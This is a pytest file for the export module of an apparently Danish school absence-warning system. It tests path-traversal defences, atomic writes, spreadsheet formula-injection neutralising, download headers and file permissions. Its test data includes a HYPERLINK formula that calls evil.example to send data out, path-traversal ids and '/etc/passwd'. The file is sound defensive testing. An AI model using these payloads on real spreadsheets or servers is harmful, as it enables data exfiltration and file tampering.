"""Exports (defects 1, 2 and 5): ids never become paths unescaped and every write stays inside its
folder; a run's lists appear together or not at all, in an --out folder created as needed;
cells that a spreadsheet would run are neutralised in CSV and Excel alike; a download's
Content-Disposition carries any school id (RFC 6266/5987)."""

from __future__ import annotations

import csv
import io
import os

import pytest

from model.errors import UserError
from serving import exports
from serving.exports import (
    content_disposition,
    download_name,
    export_flag_list,
    export_flag_lists,
    file_name,
    flag_list_csv,
    flag_list_xlsx,
    inside,
    neutral_cell,
)

FORMULA = '=HYPERLINK("http://evil.example/?q","klik")'


def a_list(school_id: str = "S1", pupil_id: str = "p-1", reason: str = "Fravær") -> dict:
    row = {"id": 1, "pupil_id": pupil_id, "rank": 1, "grade": 5, "risk": 0.4, "band": "raised",
           "reasons": [{"feature": "f", "group": "g", "value": 0.1, "effect": 0.2,
                        "text": reason}],
           "absence_year": 0.05, "trend": 0.01, "statutory_level": "warning",
           "unauthorised_quarter": 0.11, "new_this_week": True, "review": None}
    return {"week": "2024-W39", "school_id": school_id, "as_of": "2024-09-23",
            "model_version": "1", "capacity": 3, "pupils_on_roll": 20,
            "sections": {"early_warning": [row], "statutory": [dict(row, rank=1)],
                         "already_concerning": [dict(row, rank=1)]}}


@pytest.mark.parametrize("school", ["../../../../tmp/x/pwned", "..", ".hidden", "a/b\\c",
                                    "S\x0001", "C:evil"])
def test_an_id_never_names_another_folder(tmp_path, school):
    out = tmp_path / "out"
    paths = export_flag_list(a_list(school), out, formats=("csv",))
    for path in paths:
        assert path.resolve().is_relative_to(out.resolve())
        assert path.parent == (out / "2024-W39").resolve()
        assert "/" not in path.name and not path.name.startswith(".")
    assert not (tmp_path / "x").exists() and not (tmp_path.parent / "tmp").exists()


def test_file_names_keep_letters_and_escape_the_rest():
    assert file_name("S01", "csv") == "S01.csv"
    assert file_name("Østskolen", "csv") == "Østskolen.csv"
    assert file_name("../x") == "%2E%2E%2Fx"
    assert file_name("S€2") == "S%E2%82%AC2"


def test_a_write_outside_the_folder_is_refused(tmp_path):
    with pytest.raises(UserError, match="outside"):
        inside(tmp_path, "..", "x.csv")
    with pytest.raises(UserError, match="outside"):
        inside(tmp_path, "/etc/passwd")


def test_a_nested_out_folder_is_created(tmp_path):
    out = tmp_path / "a" / "b" / "c"
    written = export_flag_lists([a_list("S1"), a_list("S2")], out, formats=("csv", "xlsx"))
    assert [p.name for p in written[0]] == ["S1.csv", "S1.xlsx"]
    assert all(p.exists() for paths in written for p in paths)
    assert sorted(x.name for x in out.iterdir()) == ["2024-W39"]  # no staging folder left


def test_a_failing_run_leaves_no_half_written_list(tmp_path, monkeypatch):
    out = tmp_path / "out"
    real = exports.flag_list_xlsx
    calls = []

    def fails_on_the_second(flag_list, language="da"):
        calls.append(flag_list["school_id"])
        if len(calls) == 2:
            raise OSError("disk full")
        return real(flag_list, language)

    monkeypatch.setattr(exports, "flag_list_xlsx", fails_on_the_second)
    with pytest.raises(OSError):
        export_flag_lists([a_list("S1"), a_list("S2")], out)
    assert [p for p in out.rglob("*") if p.is_file()] == []


@pytest.mark.parametrize("text", [FORMULA, "+1", "-1+2", "@SUM(A1)", "  =1", "\t=1", "\r=1"])
def test_cells_that_would_run_are_neutralised(text):
    assert neutral_cell(text) == "'" + text
    assert neutral_cell("Fravær -2 pct.") == "Fravær -2 pct."
    assert neutral_cell(-0.5) == -0.5


def test_formula_cells_are_text_in_csv_and_excel(tmp_path):
    from openpyxl import load_workbook

    data = a_list(pupil_id=FORMULA, reason="=1+2")
    rows = list(csv.DictReader(io.StringIO(flag_list_csv(data))))
    assert all(r["pupil_id"] == "'" + FORMULA and r["reason_1"] == "'=1+2" for r in rows)
    book = load_workbook(io.BytesIO(flag_list_xlsx(data)))
    for title in ("Tidlig opsporing", "Lovkrav", "Allerede bekymrende"):
        for row in book[title].iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (title, cell.coordinate, cell.value)
        assert book[title]["B2"].value == "'" + FORMULA


@pytest.mark.parametrize("school", ["S€2", "Østskolen", 'a"b', "S1"])
def test_content_disposition_takes_any_school_id(school):
    header = content_disposition(download_name("ugeliste", school, "2024-W39", "xlsx"))
    header.encode("latin-1")  # what the server does with a header: no UnicodeEncodeError
    assert header.startswith('attachment; filename="ugeliste-')
    assert "filename*=UTF-8''ugeliste-" in header
    assert header.count('"') == 2


def test_export_files_are_owner_only(tmp_path):
    old = os.umask(0o022)
    try:
        from model.files import owner_only

        with owner_only():
            written = export_flag_lists([a_list("S1")], tmp_path / "out")
    finally:
        os.umask(old)
    for path in written[0]:
        assert path.stat().st_mode & 0o777 == 0o600, path
    assert (tmp_path / "out").stat().st_mode & 0o777 == 0o700
